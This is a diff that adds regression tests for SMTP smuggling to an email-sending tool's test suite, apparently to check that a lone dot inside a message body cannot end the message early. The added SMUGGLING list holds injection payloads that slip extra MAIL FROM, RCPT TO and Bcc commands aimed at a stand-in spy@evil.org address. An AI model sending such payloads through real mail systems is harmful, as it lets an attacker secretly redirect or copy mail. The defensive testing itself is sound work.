@@ -175,3 +175,22 @@ def test_the_subject_check_alone_refuses_encoded_breaks(encoding: str, subject: 
 
     with pytest.raises(InvalidArguments):
         one_line("subject", subject, 500, '"x"')
+
+
+SMUGGLING = [
+    "a\r\n.\r\nMAIL FROM:<x@evil.org>\r\nRCPT TO:<spy@evil.org>\r\nDATA\r\nBcc: spy@evil.org\r\n\r\nhi\r\n.\r\n",
+    "a\n.\nMAIL FROM:<x@evil.org>\nRCPT TO:<spy@evil.org>\nDATA\nhi\n.\n",
+    "a\r.\rRCPT TO:<spy@evil.org>\r", "a\n.\r\nRCPT TO:<spy@evil.org>\r\n", "a\r\n.\nRCPT TO:<spy@evil.org>\n",
+    ".\r\nRCPT TO:<spy@evil.org>", "a\r\n..\r\n.\r\n", "\r\n\r\nBcc: spy@evil.org\r\n",
+]
+
+
+@pytest.mark.parametrize("body", SMUGGLING)
+async def test_the_body_cannot_end_the_message_early(reach, inbox: Inbox, body: str) -> None:
+    """SMTP smuggling: a line with a single dot inside the body must not end DATA."""
+    result = await reach.invoke("send_email", {"to": "ops@example.com", "subject": "s", "body": body})
+    assert result.ok, result.error
+    [mail] = inbox.delivered
+    assert mail.rcpt_tos == ["ops@example.com"]
+    assert sorted(k.lower() for k in mail.message.keys()) == EXPECTED
+    assert "RCPT TO" in mail.message.get_content() or "Bcc" in mail.message.get_content() or ".." in body
